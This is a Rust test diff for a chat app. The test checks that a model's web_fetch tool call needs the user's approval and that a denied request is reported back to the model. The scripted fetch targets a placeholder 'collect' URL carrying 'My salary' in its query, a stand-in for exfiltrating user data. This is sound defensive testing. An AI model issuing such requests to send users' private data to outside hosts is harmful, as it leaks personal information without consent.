@@ -1,6 +1,6 @@
 use parlance_app::view::{
     AppEvent, KeyLocation, ModelRef, ModelServerState, ModelServerView, ModelState, ModelUse, ModelsView,
-    ProblemCode,
+    ProblemCode, Settings,
 };
 use parlance_domain::MessageStatus;
 use parlance_testkit::fault::{Answer, FaultServer};
@@ -262,4 +262,34 @@ async fn tasks_of_models_that_panic_are_named_in_a_notice() {
         // The next panic is for the next app.
         app.app.close().await;
     }
+}
+
+#[tokio::test]
+async fn a_model_is_offered_web_pages_only_when_that_is_turned_on_and_the_user_is_asked() {
+    let server = ollama(&["qwen3:8b"]).await;
+    let mut app = near(&server).await;
+    models_when(&mut app, |models| !models.servers.is_empty()).await;
+    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
+    until_state(&mut app, ModelState::Ready).await;
+    let id = app.new_conversation().await;
+    app.ask(id, "Hello").await;
+    let offered = |at: usize| server.asked()[at]["tools"].to_string();
+    assert!(offered(0).contains("calculator") && !offered(0).contains("web_"), "{}", offered(0));
+
+    let settings = app.app.start().await.unwrap().settings;
+    app.app.save_settings(Settings { lets_models_read_pages: true, ..settings }).await.unwrap();
+    let address = "https://harbour.example/collect?text=My+salary";
+    server.call("web_fetch", &format!("{{\"url\":\"{address}\"}}"));
+    server.say(&["I was not allowed to look."]);
+    let question = "What do I pay in tax?".to_owned();
+    let sent = app.app.send_message(id, question).await.unwrap().answer;
+    let models = models_when(&mut app, |models| !models.page_requests.is_empty()).await;
+    let request = &models.page_requests[0];
+    assert_eq!((request.address.as_str(), request.has_documents), (address, false));
+    app.app.answer_page_request(request.id.clone(), false).await.unwrap();
+    models_when(&mut app, |models| models.page_requests.is_empty()).await;
+    let answer = app.until_ended(sent.id).await;
+    assert!(words_of(&answer).contains("I was not allowed to look."), "{answer:?}");
+    assert!(offered(1).contains("web_fetch") && !offered(1).contains("web_search"));
+    assert!(server.asked()[2].to_string().contains("has not allowed this page"));
 }
